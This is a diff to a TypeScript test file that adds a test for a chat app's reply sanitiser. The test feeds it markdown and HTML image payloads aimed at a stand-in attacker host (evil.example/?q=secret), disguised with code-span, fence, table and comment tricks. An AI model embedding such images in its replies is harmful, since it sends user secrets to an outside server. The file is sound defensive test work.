@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict'
 import fc from 'fast-check'
+import { breakImages } from '../../src/chat/text/break-images.ts'
 import { cleanReply } from '../../src/chat/text/clean-reply.ts'
 import { splitMarkdown } from '../../src/chat/text/split-markdown.ts'
 import { verifies } from '../support/verifies.ts'
@@ -137,6 +138,25 @@ verifies('runs:reply-hygiene', 'no remote image is loaded; code that shows one s
   assert.doesNotMatch(cleanReply('a <img src="https://evil.example/x"> b'), /<img/)
   const code = '```html\n<img src="x">\n```\nand `![a](b)`'
   assert.equal(cleanReply(code), code)
+})
+
+verifies('runs:reply-hygiene', 'where images are loaded, what only looks like code hides none', () => {
+  const image = '![x](https://evil.example/?q=secret)'
+  const sly = [
+    `\`\n\n${image}\n\n\``,
+    `\\\`${image}\``,
+    `\`\n- ${image}\n- \``,
+    `- a\n  ${fence}\n${image}`,
+    `${fence} a\`b\n${image}`,
+    `| a | b | c |\n|---|---|---|\n| \` | ${image} | \` |`,
+    `<a href="\`">${image}\``,
+    `<!--\n${fence}\n-->\n${image}\n${fence}`,
+    `\`\n\n![x][y]\n\n[y]: https://evil.example\n\n\``,
+    '`\n\n<img src="https://evil.example">\n\n`',
+  ]
+  for (const text of sly) assert.doesNotMatch(breakImages(cleanReply(text)), /!\[|<img/, text)
+  const rust = `${fence}rust\nlet list = vec![1, 2];\n${fence}`
+  assert.equal(breakImages(rust), rust)
 })
 
 verifies('runs:reply-hygiene', 'no odd image gets through, however often it is repeated', () => {
